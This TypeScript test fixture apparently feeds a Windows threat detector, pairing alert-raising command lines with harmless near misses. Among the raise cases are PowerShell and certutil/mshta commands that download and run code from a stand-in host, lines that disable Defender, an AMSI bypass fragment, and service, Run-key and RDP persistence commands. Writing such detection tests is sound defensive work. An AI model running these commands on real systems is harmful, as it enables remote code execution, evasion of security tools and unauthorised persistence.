// For each kind of indicator of Windows lines that raise it, and near misses that must not. Data only: never run any of it.

export const WINDOWS_CASES: Record<string, { raise: string[]; miss: string[] }> = {
  'encoded-powershell': {
    raise: [
      'powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A',
      'start x -enc SQBFAFgAIAAoAE4AZQB3AC0A',
      'powershell \u2013e SQBFAFgAIAAoAE4AZQB3AC0A',
      `Start-Process powershell -ArgumentList '-enc','SQBFAFgAIAAoAE4AZQB3AC0A'`,
    ],
    miss: ['grep -e averylongpatternindeed file', 'powershell -ExecutionPolicy Bypass -File a.ps1'],
  },
  iex: {
    raise: [
      'iex (iwr http://192.0.2.9/a.ps1)',
      'Invoke-Expression $command',
      '[Reflection.Assembly]::Load($b)',
      "&('i'+'ex') (irm http://192.0.2.9/a.ps1)",
      '[scriptblock]::Create((irm http://192.0.2.9/a.ps1)).Invoke()',
    ],
    miss: ['Install-WindowsFeature Web-Server', 'Invoke-WebRequest http://192.0.2.9/a -OutFile a'],
  },
  'hidden-window': {
    raise: ['powershell -w hidden -file a.ps1'],
    miss: ['Get-ChildItem -Hidden', 'powershell -windowstyle normal'],
  },
  'defender-off': {
    raise: ['Set-MpPreference -DisableRealtimeMonitoring $true', 'Add-MpPreference -ExclusionPath D:\\data'],
    miss: ['Get-MpPreference', 'Set-MpPreference -DisableRealtimeMonitoring $false', 'Update-MpSignature'],
  },
  'amsi-bypass': { raise: ["GetField('amsiInitFailed')"], miss: ['echo amsterdam'] },
  lolbin: {
    raise: ['certutil -urlcache -f http://192.0.2.9/a a', 'mshta http://192.0.2.9/a.hta'],
    miss: ['certutil -addstore Root ca.cer', 'rundll32 shell32.dll,Control_RunDLL', 'msiexec /i a.msi /qn'],
  },
  'service-added': {
    raise: [
      'New-Service -Name a -BinaryPathName "powershell -file C:\\x.ps1"',
      'sc create agent binPath= "C:\\Program Files\\agent.exe"',
    ],
    miss: ['Get-Service a', 'sc query agent', 'Restart-Service W3SVC'],
  },
  'run-key': {
    raise: [
      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b',
      'Register-WmiEvent -Query $q -Action { C:\\a.ps1 }',
    ],
    miss: [
      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies /v a',
      'reg query HKLM\\Software',
    ],
  },
  'rdp-opened': {
    raise: [
      "Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
      'reg add x /v fDenyTSConnections /t REG_DWORD /d 0 /f',
    ],
    miss: [
      'reg add x /v fDenyTSConnections /t REG_DWORD /d 1 /f',
      'Enable-NetFirewallRule -Name FPS-ICMP4-ERQ-In',
    ],
  },
};
